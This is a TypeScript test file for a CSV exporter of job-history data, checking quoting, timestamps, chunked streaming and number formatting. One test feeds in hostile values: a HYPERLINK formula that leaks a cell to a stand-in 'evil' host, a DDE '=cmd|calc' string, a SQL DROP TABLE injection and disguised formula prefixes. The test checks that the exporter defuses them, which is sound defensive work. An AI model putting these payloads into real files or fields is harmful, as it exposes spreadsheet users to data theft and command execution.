import fc from 'fast-check'
import { expect, it } from 'vitest'
import type { CsvQuery } from '#core/api/history.ts'
import { csvParts, csvText } from './csv.ts'
import type { History } from './history.ts'
import { sevenDigits } from './seven-digits.ts'
import { readHere } from '#tests/kits/electron/foreign/in-process.ts'
import { facts, job, newFile, NOW, openAt, target } from '#tests/kits/electron/history/samples.ts'

const query = (what: CsvQuery['what'], more: Partial<CsvQuery> = {}): CsvQuery => ({
  fromMs: NOW,
  toMs: NOW + 600_000,
  what,
  tier: null,
  by: 'job',
  ...more,
})
const textOf = (h: History, q: CsvQuery): string => [...csvText(h.reader(), q)].map((p) => p.text).join('')

/** Parses RFC 4180. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]]
  const cells = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy
  for (let m = cells.exec(text); m; m = cells.exec(text)) {
    const raw = m[1] ?? ''
    rows.at(-1)?.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw)
    if (m[2] === '\r\n') rows.push([])
    if (cells.lastIndex === text.length) break
  }
  expect(rows.pop()).toEqual([])
  return rows
}

const HOSTILE = [
  '=HYPERLINK("http://evil/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1',
  ' =1+1',
  '＝1',
  'plain,"quoted"',
  'two\nlines',
  "'; DROP TABLE job; --",
  '\u0000nul',
]

it('a job id that is a formula, a quote, a line or a statement is text in a cell and in the file', () => {
  const history = openAt(newFile())
  history.beginSource('LIVE', 'c', '', NOW)
  const evil = (jobId: string) => ({ ...facts(jobId), user: '=cmd|calc', account: '@x' })
  history.record(
    NOW,
    HOSTILE.map((id, i) => job(id, i)),
    [target('=OST', 1)],
    evil,
  )
  history.recordEvent({ atMs: NOW, kind: 'note', level: 'ok', subject: 'Note', text: '=1+1', where: '-x' })
  history.flush()
  const rows = parse(textOf(history, query('jobs')))
  expect(rows).toHaveLength(HOSTILE.length + 1)
  expect(new Set(rows.map((r) => r.length))).toEqual(new Set([rows[0]?.length]))
  const ids = rows.slice(1).map((r) => r[1])
  expect(ids.map((id) => id?.replace(/^'(?=[\s\0]*[=+\-@\t\r\n＝])/, ''))).toEqual(HOSTILE)
  const all = ['jobs', 'targets', 'events'] as const
  for (const cell of all.flatMap((what) =>
    parse(textOf(history, query(what)))
      .slice(1)
      .flat(),
  )) {
    // A number may be negative; text never starts a formula.
    if (!/^-?\d+(\.\d+)?(e[+-]\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[\s\0]*[=+\-@\t\r＝＋－＠]/)
  }
  expect(history.reader().jobByName(HOSTILE[10] ?? '')?.jobId).toBe(HOSTILE[10])
  expect(history.count('job')).toBe(HOSTILE.length)
  history.close()
})

it('a gap is an empty cell, a time is ISO, a record is whole', () => {
  const history = openAt(newFile())
  history.beginSource('LIVE', 'c', '', NOW)
  history.record(
    NOW,
    [job('7.cfd.u1', null), job('8.x.u2', 2.5, { record: -(2 ** 30) - 1 })],
    [target('t', null)],
    facts,
    {
      rpcs: null,
      queued: 3,
    },
  )
  history.flush()
  expect(parse(textOf(history, query('jobs'))).slice(1)).toEqual([
    ['2026-01-02T00:00:00.000Z', '7.cfd.u1', 'u1', 'aero', 'cfd', '4', '', '', '', '', '0', ''],
    ['2026-01-02T00:00:00.000Z', '8.x.u2', 'u2', 'aero', 'x', '4', '2.5', '2.5', '2.5', '', '0', '-1073741825'],
  ])
  expect(parse(textOf(history, query('cluster')))[1]).toEqual([
    '2026-01-02T00:00:00.000Z',
    '',
    '',
    '',
    '',
    '3',
    '',
    '',
    '',
  ])
  expect(parse(textOf(history, query('targets')))[1]).toEqual(['2026-01-02T00:00:00.000Z', 't', 'oss1', '', '', ''])
  expect(parse(textOf(history, query('jobs', { by: 'account' }))).slice(1)).toEqual([
    ['2026-01-02T00:00:00.000Z', 'aero', '2', '', '', '', ''],
  ])
  history.close()
})

it('comes in parts of bounded size, also a hundred thousand rows, and every event once', async () => {
  const history = openAt(newFile())
  history.beginSource('EMULATED', 'c', '', NOW)
  const jobs = Array.from({ length: 1000 }, (_, i) => job(`${i}.solve.u1`, i))
  for (let i = 0; i < 100; i++) history.record(NOW + i * 100, jobs, [], facts)
  // More events at one instant than one page.
  for (let i = 0; i < 2500; i++) {
    history.recordEvent({
      atMs: NOW + (i < 1300 ? 5 : i),
      kind: 'note',
      level: 'ok',
      subject: 's',
      text: `n${i}`,
      where: '',
    })
  }
  history.flush()
  const reader = history.reader()
  const parts = csvParts(reader, query('jobs'))
  if (!parts.ok) throw new Error(parts.error.what)
  let rows = 0
  let longest = 0
  let last = false
  let done = 0
  for await (const part of parts.value) {
    expect(last).toBe(false)
    expect(part.done).toBeGreaterThanOrEqual(done)
    done = part.done
    // Half of the rows are half of the range.
    if (rows < 50_000 && rows + part.rows >= 50_000) expect(Math.abs(done - 0.5)).toBeLessThan(0.1)
    rows += part.rows
    longest = Math.max(longest, part.text.length)
    last = part.isLast
    // Sampling continues meanwhile: reading holds no lock.
    history.record(NOW + 20_000 + rows, [], [], facts)
    history.flush()
  }
  expect([rows, last, done]).toEqual([100_000, true, 1])
  expect(longest).toBeLessThan(70_000)
  const events = parse(textOf(history, query('events'))).slice(1)
  expect(new Set(events.map((r) => r[5])).size).toBe(2500)
  expect(events).toHaveLength(2500)
  expect(csvParts(reader, query('jobs', { fromMs: 0, toMs: 5 }))).toMatchObject({
    ok: false,
    error: { code: 'CSV_EMPTY' },
  })
  history.close()
})

it('without a resolution named it is of the finest that is kept, with every instant of it', () => {
  const file = newFile()
  const history = openAt(file)
  history.beginSource('LIVE', 'c', '', NOW)
  for (let s = 0; s < 300; s++) history.record(NOW + s * 1000, [job('1.a.u1', s)], [target('t', 1)], facts, { rpcs: s })
  history.close()
  const opened = readHere(file)
  if (!opened.ok) throw new Error(opened.error.what)
  const reader = opened.value
  expect(reader.tierFor(NOW, NOW + 300_000, Infinity)).toBe('raw')
  expect(reader.tierFor(NOW, NOW + 300_000, 100)).not.toBe('raw')
  for (const what of ['jobs', 'targets', 'cluster'] as const) {
    const text = [...csvText(reader, query(what))].map((p) => p.text).join('')
    expect(text).toBe([...csvText(reader, query(what, { tier: 'raw' }))].map((p) => p.text).join(''))
    expect(parse(text), what).toHaveLength(1 + 300)
  }
  reader.close()
})

it('of a nearly empty range takes no longer than its samples', () => {
  const history = openAt(newFile())
  history.beginSource('LIVE', 'c', '', NOW)
  for (const at of [NOW, NOW + 1000]) history.record(at, [job('1.a.u1', 1)], [target('t', 1)], facts, { rpcs: 1 })
  const rows = parse(textOf(history, query('cluster', { fromMs: 0, toMs: 8.64e15, tier: 'raw' })))
  expect(rows.slice(1).map((r) => r[0])).toEqual([NOW, NOW + 1000].map((at) => new Date(at).toISOString()))
  history.close()
})

const byPrecision = (v: number): string => (Number.isNaN(v) ? '' : String(Number(v.toPrecision(7))))

it('figures have seven digits, as by toPrecision', () => {
  const near = fc.tuple(fc.integer({ min: -7, max: 16 }), fc.integer({ min: -40, max: 40 })).map(([e, k]) => {
    const bits = new Uint32Array(Float32Array.of(10 ** e).buffer)
    return new Float32Array(Uint32Array.of((bits[0] as number) + k).buffer)[0] as number
  })
  const halves = fc.integer({ min: -2e9, max: 2e9 }).map((n) => Math.fround(n / 2))
  for (const values of [fc.float(), near, halves, fc.double()]) {
    fc.assert(
      fc.property(values, (v) => {
        expect(sevenDigits(v)).toBe(byPrecision(v))
      }),
      { numRuns: 2_000 },
    )
  }
})

it('a gap is nothing, a zero of either sign is 0', () => {
  expect([undefined, NaN, 0, -0, -2.5, 8_388_609, 123_456_789].map(sevenDigits)).toEqual([
    '',
    '',
    '0',
    '0',
    '-2.5',
    '8388609',
    '123456800',
  ])
})
